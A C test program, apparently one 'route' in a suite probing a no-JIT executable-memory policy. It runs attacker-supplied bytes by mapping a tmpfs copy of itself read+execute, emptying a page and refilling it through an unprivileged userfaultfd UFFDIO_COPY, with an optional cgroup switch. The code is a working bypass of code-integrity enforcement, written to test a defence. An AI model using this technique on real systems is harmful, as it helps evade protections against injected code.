// SPDX-License-Identifier: GPL-2.0
/*
 * Route 14: put bytes under an executable mapping without writing to it.
 * A file on tmpfs (shmem, which userfaultfd accepts for MISSING faults)
 * is mapped private and read+execute; MADV_DONTNEED empties one page;
 * an unprivileged userfaultfd (UFFD_USER_MODE_ONLY) registered over the
 * mapping fills that page with UFFDIO_COPY from our buffer; the code is
 * called through the executable mapping. No write(2), no PROT_WRITE, no
 * mprotect. The file's content is a copy of this program, so a manifest
 * listing this program lists it too. Scratch directory: $NOJIT_SHM_DIR,
 * else /dev/shm (it must be tmpfs).
 *   uffd_fill_exec join CGROUP   create the userfaultfd first, then move
 *                                into CGROUP and use it from there
 */
#define ATTACK_NAME "uffd_fill_exec"
#include "file.h"
#include <linux/userfaultfd.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <sys/vfs.h>

#ifndef UFFD_USER_MODE_ONLY
#define UFFD_USER_MODE_ONLY 1
#endif
#define TMPFS_MAGIC 0x01021994

static void join_cgroup(const char *dir)
{
	char procs[PATH_MAX + 16], pid[32];
	int fd, n;

	snprintf(procs, sizeof(procs), "%s/cgroup.procs", dir);
	n = snprintf(pid, sizeof(pid), "%d\n", getpid());
	fd = open(procs, O_WRONLY | O_CLOEXEC);
	if (fd < 0 || write(fd, pid, n) != n)
		attack_error("joining %s: %s", dir, strerror(errno));
	close(fd);
}

int main(int argc, char **argv)
{
	struct uffdio_api api = { .api = UFFD_API };
	struct uffdio_register reg = {};
	struct uffdio_copy copy = {};
	const char *shm = getenv("NOJIT_SHM_DIR");
	char path[PATH_MAX + 16];
	unsigned char *rx, *src;
	struct statfs sfs;
	struct stat st;
	int fd, uffd, err;

	attack_init();
	if (!shm || !*shm)
		shm = "/dev/shm";
	if (statfs(shm, &sfs) || sfs.f_type != TMPFS_MAGIC)
		attack_error("%s is not tmpfs", shm);
	setenv("TMPDIR", shm, 1);
	snprintf(path, sizeof(path), "%s/copy", attack_scratch_create());
	attack_copy_file("/proc/self/exe", path, 0700, 0);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || fstat(fd, &st))
		attack_error("open %s: %s", path, strerror(errno));
	rx = mmap(NULL, 2 * ATTACK_PAGE, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
	err = errno;
	close(fd);
	attack_scratch_remove(attack_scratch);
	if (rx == MAP_FAILED)
		attack_error("mapping the copy executable failed: %s", strerror(err));
	if (madvise(rx + ATTACK_PAGE, ATTACK_PAGE, MADV_DONTNEED))
		attack_error("madvise(MADV_DONTNEED): %s", strerror(errno));

	uffd = syscall(SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY);
	if (uffd < 0)
		attack_step_failed("userfaultfd()", errno);
	if (ioctl(uffd, UFFDIO_API, &api))
		attack_step_failed("ioctl(UFFDIO_API)", errno);
	if (argc > 2 && !strcmp(argv[1], "join"))
		join_cgroup(argv[2]);
	reg.range.start = (uintptr_t)rx;
	reg.range.len = 2 * ATTACK_PAGE;
	reg.mode = UFFDIO_REGISTER_MODE_MISSING;
	if (ioctl(uffd, UFFDIO_REGISTER, &reg))
		attack_step_failed("ioctl(UFFDIO_REGISTER) over the executable mapping", errno);

	src = mmap(NULL, ATTACK_PAGE, PROT_READ | PROT_WRITE,
		   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (src == MAP_FAILED)
		attack_error("mmap: %s", strerror(errno));
	attack_write_payload(src);
	copy.dst = (uintptr_t)rx + ATTACK_PAGE;
	copy.src = (uintptr_t)src;
	copy.len = ATTACK_PAGE;
	if (ioctl(uffd, UFFDIO_COPY, &copy))
		attack_step_failed("ioctl(UFFDIO_COPY) into the executable mapping", errno);
	attack_run_payload(rx + ATTACK_PAGE);
}
